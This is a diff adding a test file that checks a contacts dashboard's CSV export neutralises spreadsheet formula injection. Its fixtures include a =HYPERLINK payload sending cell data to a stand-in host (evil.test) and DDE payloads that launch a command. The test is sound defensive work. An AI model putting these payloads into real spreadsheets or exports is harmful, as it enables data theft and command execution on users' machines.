@@ -1,0 +1,46 @@
+import Papa from "papaparse";
+import { describe, expect, it } from "vitest";
+import { importErrorsCsv } from "@/components/contacts/import/import-errors-csv";
+import { csvCell } from "@/lib/domain/csv";
+import { createTestOrg } from "@/lib/testing/api";
+
+// Trust, second pass: the import-errors CSV the dashboard offers for download kept cells as the file
+// had them, so a contact list with `=HYPERLINK("http://evil.test/…")` in its email column became a
+// formula in the spreadsheet of whoever opened the errors. Cells starting with = + - @ or a tab are
+// prefixed with ' (decisions.md, for every export).
+const HOSTILE = [
+  '=HYPERLINK("http://evil.test/steal?d="&A1,"Fix")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "=1+1\nsecond line",
+];
+
+describe("CSV exports", () => {
+  it("neutralise formula cells in the import-errors download", async () => {
+    const org = await createTestOrg();
+    const csv = Papa.unparse({ fields: ["Email"], data: [["ok@example.test"], ...HOSTILE.map((value) => [value])] });
+    const result = await org.owner.api.post("/v1/contacts/import", {
+      file_content: Buffer.from(csv).toString("base64"),
+      column_mappings: [{ csv_column: "Email", property_name: "email" }],
+      handle_missing: "create",
+    });
+    expect(result.status).toBe(200);
+    expect(result.body.errors).toHaveLength(HOSTILE.length);
+
+    const download = Papa.parse<string[]>(importErrorsCsv(result.body.errors), { skipEmptyLines: true }).data;
+    expect(download[0]).toEqual(["row", "email", "error"]);
+    // The answer echoes each cell (trimmed); the download makes each one text with a leading '.
+    const echoed: string[] = result.body.errors.map((e: { email: string }) => e.email);
+    for (const email of echoed) expect(email).toMatch(/^[=+\-@]/);
+    expect(download.slice(1).map((row) => row[1])).toEqual(echoed.map((email) => `'${email}`));
+    for (const row of download.slice(1)) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it("neutralise every formula start, in one function any export can use", () => {
+    for (const value of ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=1\n2"]) expect(csvCell(value)).toBe(`'${value}`);
+    for (const value of ["ada@example.test", "1", "", " =1", "a=b"]) expect(csvCell(value)).toBe(value);
+    expect([csvCell(42), csvCell(null), csvCell(undefined), csvCell(-3)]).toEqual(["42", "", "", "-3"]);
+  });
+});
